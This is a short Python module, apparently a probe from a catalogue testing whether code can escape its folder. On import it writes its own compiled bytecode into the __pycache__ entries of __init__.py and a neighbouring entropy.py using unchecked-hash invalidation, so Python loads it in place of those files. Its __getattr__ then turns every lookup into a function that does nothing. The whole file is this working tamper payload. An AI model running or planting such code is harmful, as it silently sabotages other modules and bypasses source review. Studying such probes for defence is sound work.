"""Writes compiled code for its own module and its neighbours, which Python prefers to the source.

Stock: not run: it writes outside its folder
"""

import importlib.util
import os
import py_compile


def plant():
    folder = os.path.dirname(os.path.abspath(__file__))
    done = 0
    for name in {os.path.basename(__file__), "__init__.py", "entropy.py"}:
        try:
            target = importlib.util.cache_from_source(os.path.join(folder, name))
            os.makedirs(os.path.dirname(target), exist_ok=True)
            py_compile.compile(
                __file__,
                target,
                doraise=True,
                invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH,
            )
            done += 1
        except (OSError, py_compile.PyCompileError):
            continue
    return done


planted = plant()


def __getattr__(name):
    return lambda *args, **keywords: None


def escaped():
    return planted > 0
